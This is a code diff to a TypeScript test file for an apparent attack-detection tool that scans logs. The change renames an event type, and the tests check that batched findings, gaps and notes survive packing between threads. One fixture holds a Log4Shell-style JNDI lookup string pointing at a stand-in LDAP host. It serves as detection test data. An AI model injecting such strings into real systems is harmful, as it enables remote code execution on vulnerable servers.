@@ -2,18 +2,18 @@ import { expect, test } from 'vitest'
 import { huntIn } from '../../../test/kit/hunting.ts'
 import type { AttackFinding } from '../../core/index.ts'
 import { type Readings, RecentlyRead } from '../../hunt/index.ts'
-import type { HuntEvent } from './hunt-event.ts'
+import type { WorkEvent } from './hunt-event.ts'
 import { EventPacker, EventUnpacker } from './packed-events.ts'
 
 const readings: Readings = new RecentlyRead()
 
 /** What a hunt tells of a log, several times over as one thread may. */
-function told(log: string): readonly HuntEvent[] {
-  return huntIn(log, { readings }).findings.map((finding): HuntEvent => ({ is: 'finding', finding }))
+function told(log: string): readonly WorkEvent[] {
+  return huntIn(log, { readings }).findings.map((finding): WorkEvent => ({ is: 'finding', finding }))
 }
 
 /** As another thread would get it: of copies. */
-function sent(batches: readonly (readonly HuntEvent[])[]): { events: readonly HuntEvent[]; whole: number } {
+function sent(batches: readonly (readonly WorkEvent[])[]): { events: readonly WorkEvent[]; whole: number } {
   const packer = new EventPacker()
   const unpacker = new EventUnpacker()
   const packed = batches.map((events) => structuredClone(packer.pack(events)))
@@ -45,10 +45,10 @@ test('a spray arrives as it was told, and what its findings share is sent once',
 test('gaps, notes and evidence keep their place among attacks', () => {
   const [attack, again] = told(line(1, '${jndi:ldap://a.example/x}').repeat(2))
   const [evidence] = told('2021-12-10 WARN Error looking up JNDI resource [ldap://a.example/x].\n')
-  const gap: HuntEvent = { is: 'gap', gap: { at: 'a', because: 'malformed', detail: 'b' } }
+  const gap: WorkEvent = { is: 'gap', gap: { at: 'a', because: 'malformed', detail: 'b' } }
   const events = [attack, gap, again, evidence, { is: 'note', text: 'n' }].filter((each) => each !== undefined)
 
-  expect(sent([events as readonly HuntEvent[]]).events).toEqual(events)
+  expect(sent([events as readonly WorkEvent[]]).events).toEqual(events)
 })
 
 test('more different attacks than are remembered arrive as they were told, also those that come again', () => {
@@ -70,7 +70,7 @@ test('findings that differ in what is shared otherwise are told apart', () => {
   ] as readonly Partial<AttackFinding>[]
   const events = [
     event,
-    ...others.map((other): HuntEvent => ({ is: 'finding', finding: { ...event.finding, ...other } })),
+    ...others.map((other): WorkEvent => ({ is: 'finding', finding: { ...event.finding, ...other } })),
   ]
 
   expect(sent([events]).events).toEqual(events)
